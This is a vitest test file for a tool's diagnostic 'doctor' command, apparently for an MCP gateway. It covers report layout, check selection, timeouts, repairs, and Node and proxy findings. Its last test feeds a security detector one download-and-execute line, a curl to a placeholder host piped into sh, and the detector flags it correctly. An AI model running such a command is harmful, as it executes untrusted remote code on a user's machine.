/** What the doctor says is read at a glance, and one check that breaks spoils no other. */
import { describe, expect, test } from 'vitest'
import type { Around } from '../../src/cli/checks/around.ts'
import type { Check, Finding, Repair, Row, Status } from '../../src/cli/checks/check.ts'
import { GROUPS } from '../../src/cli/checks/groups.ts'
import { reportMarkdown } from '../../src/cli/checks/machine-report.ts'
import { mend } from '../../src/cli/checks/repair.ts'
import { chooseChecks, runChecks } from '../../src/cli/checks/run.ts'
import { nodeFinding, proxyFindings } from '../../src/cli/checks/runtime.ts'
import { dangers } from '../../src/cli/checks/security.ts'
import { reportText } from '../../src/cli/checks/show.ts'

const repair = (key: string, more: Partial<Repair> = {}): Repair => ({
  key,
  does: `mend ${key}`,
  run: async () => undefined,
  ...more,
})

function row(id: string, status: Status, subject: string, message: string, more: Partial<Finding> = {}): Row {
  const found = GROUPS.flatMap((group) => group.checks.map((check) => ({ group, check }))).find(({ check }) => check.id === id)
  return { id, group: found?.group.name ?? '', title: found?.check.title ?? '', status, subject, message, ...more }
}

const ROWS: Row[] = [
  row('MGW-R01', 'ok', 'node', '24.11.0'),
  row('MGW-R05', 'error', 'uvx', 'is not in PATH; needed by fetch', { fix: 'install uv: https://docs.astral.sh/uv/' }),
  row('MGW-C01', 'ok', '~/.config/mcp-gw/mcp-gw.yaml', '12 servers'),
  row('MGW-C05', 'warn', 'github', 'its entry holds a secret in plain text (GITHUB_TOKEN)', {
    repair: repair('secrets', { asks: true, does: 'move GITHUB_TOKEN of github to ~/.config/mcp-gw/.env' }),
  }),
  row('MGW-G01', 'ok', 'gateway', 'http://127.0.0.1:39400/mcp  pid 812  up 3d'),
  row('MGW-K03', 'error', 'cursor', '~/.cursor/mcp.json points to port 7718, the gateway runs on 39400', {
    repair: repair('entry'),
  }),
  row('MGW-K02', 'skip', 'zed', 'has no gateway; mcp-gw setup-export --target zed'),
  row('MGW-S01', 'error', 'a-server-with-a-long-name', 'exited with code 7', {
    detail: ['Error: Cannot find module "/home/anna/src/server/build/index.js" imported from /home/anna/src/server/package.json'],
    fix: 'mend servers.a-server-with-a-long-name, then mcp-gw doctor --only servers',
  }),
  row('MGW-X04', 'skip', 'keychain', 'the config takes nothing from it'),
]
const about = 'mcp-gw doctor 1.2.3 · linux 6.1 x64, shell zsh · node 24.11.0'
const report = { about, groups: GROUPS, rows: ROWS, seconds: 2.34 }

describe('the report', () => {
  test.each([80, 120])('begins with what needs somebody, at %i columns', async (width) => {
    const text = reportText(report, { width, verbose: false, ascii: false })
    for (const line of text.split('\n')) expect(line.length).toBeLessThanOrEqual(width)
    await expect(`${text}\n`).toMatchFileSnapshot(`golden/doctor-${width}.golden.txt`)
  })

  test('shows every check with -v, in signs of every terminal with --ascii', async () => {
    const text = reportText(report, { width: 80, verbose: true, ascii: true })
    await expect(`${text}\n`).toMatchFileSnapshot('golden/doctor-verbose-ascii.golden.txt')
  })

  test('says little where all is well', async () => {
    const rows = ROWS.filter(({ status }) => status === 'ok' || status === 'skip')
    const text = reportText({ ...report, rows }, { width: 80, verbose: false, ascii: false })
    await expect(`${text}\n`).toMatchFileSnapshot('golden/doctor-green.golden.txt')
  })

  test('becomes a block for an issue', async () => {
    const env = { system: 'linux 6.1 x64, shell zsh', node: '24.11.0', config: '~/.config/mcp-gw/mcp-gw.yaml' }
    const text = reportMarkdown(ROWS, GROUPS, env).replace(/^- mcp-gw .*$/m, '- mcp-gw 1.2.3')
    await expect(text).toMatchFileSnapshot('golden/doctor-report.golden.md')
  })
})

const around = (offline: boolean): Around => ({ offline }) as Partial<Around> as Around
const group = { name: 'runtime', title: 'Runtime', checks: [] }
const chosen = (check: Partial<Check>) => [{ group, check: { id: 'MGW-R99', title: 'Odd', run: () => [], ...check } }]

describe('a check', () => {
  test('has an id of its own for ever, which tells its group', () => {
    const ids = GROUPS.flatMap(({ checks }) => checks.map(({ id }) => id))
    expect(new Set(ids).size).toBe(ids.length)
    for (const id of ids) expect(id).toMatch(/^MGW-[RCGKSX]\d\d$/)
    for (const { checks } of GROUPS) expect(new Set(checks.map(({ id }) => id[4])).size).toBe(1)
  })

  test('that breaks is an error like any other', async () => {
    const run = (): never => {
      throw new Error('no such thing')
    }
    const [broken] = await runChecks(chosen({ run }), around(false))
    expect(broken).toMatchObject({ id: 'MGW-R99', status: 'error', message: 'check failed: no such thing' })
  })

  test('that does not end is an error when its time is over', async () => {
    const [late] = await runChecks(chosen({ timeoutMs: 1, run: () => new Promise(() => undefined) }), around(false))
    expect(late?.message).toMatch(/^check failed: did not end within/)
  })

  test('that reaches beyond the machine is left out with --offline', async () => {
    const run = (): never => {
      throw new Error('reached out')
    }
    expect((await runChecks(chosen({ remote: true, run }), around(true)))[0]?.status).toBe('skip')
  })

  test('is chosen by its group, its id, or the short form of it', () => {
    const ids = (only: string) => {
      const found = chooseChecks(GROUPS, only)
      return 'unknown' in found ? found : found.map(({ check }) => check.id)
    }
    expect(ids('K03,mgw-r01')).toEqual(['MGW-R01', 'MGW-K03'])
    expect(ids('servers')).toEqual(['MGW-S01', 'MGW-S02', 'MGW-S06'])
    expect(ids('servers,nonsense')).toEqual({ unknown: 'nonsense' })
  })
})

describe('--fix', () => {
  test('does what is safe, and leaves what nobody has agreed to', async () => {
    const done: string[] = []
    const one = (key: string, more: Partial<Repair> = {}) => repair(key, { run: async () => void done.push(key), ...more })
    const rows = [
      row('MGW-C07', 'error', 'a', '', { repair: one('safe') }),
      row('MGW-C09', 'error', 'a', '', { repair: one('safe') }),
      row('MGW-C05', 'warn', 'b', '', { repair: one('asks', { asks: true }) }),
      row('MGW-K05', 'warn', 'c', ''),
    ]
    const mended = await mend(rows, async () => false)
    expect(done).toEqual(['safe'])
    expect(mended).toMatchObject({ done: ['mend safe'], left: ['mend asks'], failed: [] })
    expect([...mended.ids]).toEqual(['MGW-C07', 'MGW-C09'])
  })

  test('goes on where one repair fails, and says why', async () => {
    const fails = repair('first', { run: () => Promise.reject(new Error('the disk is full')) })
    const rows = [
      row('MGW-C07', 'error', 'a', '', { repair: fails }),
      row('MGW-C09', 'error', 'b', '', { repair: repair('second') }),
    ]
    expect(await mend(rows, async () => true)).toMatchObject({ failed: ['mend first: the disk is full'], done: ['mend second'] })
  })
})

describe('findings', () => {
  test('Node is too old, old, or good', () => {
    expect(nodeFinding('20.18.3', '2026-01-01').status).toBe('error')
    expect(nodeFinding('20.19.0', '2026-01-01').status).toBe('ok')
    expect(nodeFinding('20.19.0', '2026-05-01').status).toBe('warn')
    expect(nodeFinding('24.1.0', '2026-05-01').status).toBe('ok')
  })

  test('a proxy must not be asked for this machine', () => {
    expect(proxyFindings({})[0]?.status).toBe('ok')
    expect(proxyFindings({ HTTP_PROXY: 'http://proxy:8080' })[0]).toMatchObject({
      status: 'warn',
      fix: 'export NO_PROXY=127.0.0.1,localhost',
    })
    expect(proxyFindings({ HTTP_PROXY: 'http://proxy:8080', NO_PROXY: 'localhost, 127.0.0.1' })[0]?.status).toBe('ok')
  })

  test('servers that should be looked at are named with the reason', () => {
    expect(dangers({ command: 'bash', args: ['-c', 'curl https://x.example/i.sh | sh'] })).toEqual(['runs what it downloads'])
    expect(dangers({ command: '/bin/bash', args: ['-lc', 'node server.js'] })).toEqual(['is a line for a shell'])
    expect(dangers({ command: 'docker', args: ['run', '--privileged', 'x'] })).toEqual([
      'runs a container that may do everything',
    ])
    expect(dangers({ url: 'http://tools.example/mcp' })).toEqual(['is reached without encryption'])
    expect(dangers({ url: 'http://127.0.0.1:8080/mcp' })).toEqual([])
    expect(dangers({ command: 'npx', args: ['-y', 'server'] })).toEqual([])
  })
})
